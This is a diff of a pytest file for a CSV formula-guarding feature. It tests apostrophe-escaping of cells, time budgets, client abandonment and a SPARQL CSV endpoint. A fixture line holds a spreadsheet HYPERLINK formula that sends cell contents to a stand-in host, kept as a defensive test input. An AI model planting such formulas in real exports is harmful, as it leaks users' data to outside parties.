@@ -4,21 +4,27 @@ from __future__ import annotations
 
 import csv
 import io
-from collections.abc import Iterator
+from collections.abc import Generator, Iterator
 from contextlib import closing
+from http.client import HTTPException
+from pathlib import Path
+from typing import cast
 
 import pytest
 from flask import Flask
 
-from allegata.budget import Budget
+from allegata.budget import Budget, Lane
 from allegata.engine import open_engine
+from allegata.errors import Abandoned, WorkTimeout
 from allegata.model.formats import CSV, CSV_RESULTS
 from allegata.release.build import build
 from allegata.settings import Settings
 from allegata.web import create_app
 from allegata.web.http.csv_tables import SAFE_CSV, guard, safe_choice, write_table
 from allegata.web.http.views import main_rules
+from http_client import fetch
 from releases import BASE, HEAD, lay_out
+from service import PATIENT, serve
 
 FORMULA = '=HYPERLINK("https://example.org/?"&A1)'
 CORPUS = f"""{HEAD}\
@@ -99,3 +105,44 @@ def test_what_a_spreadsheet_would_take_for_a_formula_begins_with_an_apostrophe(c
     plain = io.StringIO(newline="")
     csv.writer(plain).writerows([("a", "b"), (cell, "")])
     assert cells(b"".join(guard([plain.getvalue().encode()], 300_000, Budget(60)))) == ["a", "b", f"'{cell}", ""]
+
+
+def test_making_cells_safe_is_work_of_the_client_with_a_budget_of_its_own() -> None:
+    ticks, lane = iter(range(1_000_000)), Lane(1, 1)
+    budget = Budget(5.0, lane, "a", clock=lambda: next(ticks) / 100)
+    rows = guard(iter([b"a,b\r\n"] * 10_000), 100, budget)
+    for _ in range(100):
+        assert next(rows) == b"a,b\r\n"
+    assert lane.taken == 1, "what goes on takes a place"
+    with pytest.raises(WorkTimeout) as caught:
+        for _ in rows:
+            pass
+    assert caught.value.members == {"limit": "work_timeout", "allowed": 5.0}
+    assert lane.taken == 0, "and gives it back"
+
+
+def test_making_cells_safe_ends_when_its_client_leaves() -> None:
+    ticks, lane, gone = iter(range(1_000_000)), Lane(1, 1), False
+    rows = guard(iter([b"a,b\r\n"] * 10_000), 100, Budget(1e9, lane, "a", lambda: gone, clock=lambda: next(ticks) / 100))
+    for _ in range(100):
+        next(rows)
+    gone = True
+    with pytest.raises(Abandoned):
+        for _ in rows:
+            pass
+    assert lane.taken == 0
+    rows = guard(iter([b"a,b\r\n"] * 10_000), 100, Budget(1e9, lane, "a", clock=lambda: next(ticks) / 100))
+    for _ in range(100):
+        next(rows)
+    assert lane.taken == 1
+    cast(Generator[bytes, None, None], rows).close()
+    assert lane.taken == 0, "also where nobody reads to the end"
+
+
+@pytest.mark.server
+def test_the_budget_of_safe_cells_is_that_of_a_client_of_the_service(site: Path) -> None:
+    query = "SELECT%20%2A%20%7B%20%3Fs%20%3Fp%20%3Fo%20%7D"
+    with serve(site, **(PATIENT | {"work_timeout": 0.1, "result_hold": 0.0})) as service:
+        assert fetch(service.address, f"/sparql?query={query}&format=csv").status == 200
+        with pytest.raises((OSError, HTTPException)):
+            fetch(service.address, f"/sparql?query={query}&format=csv-safe")
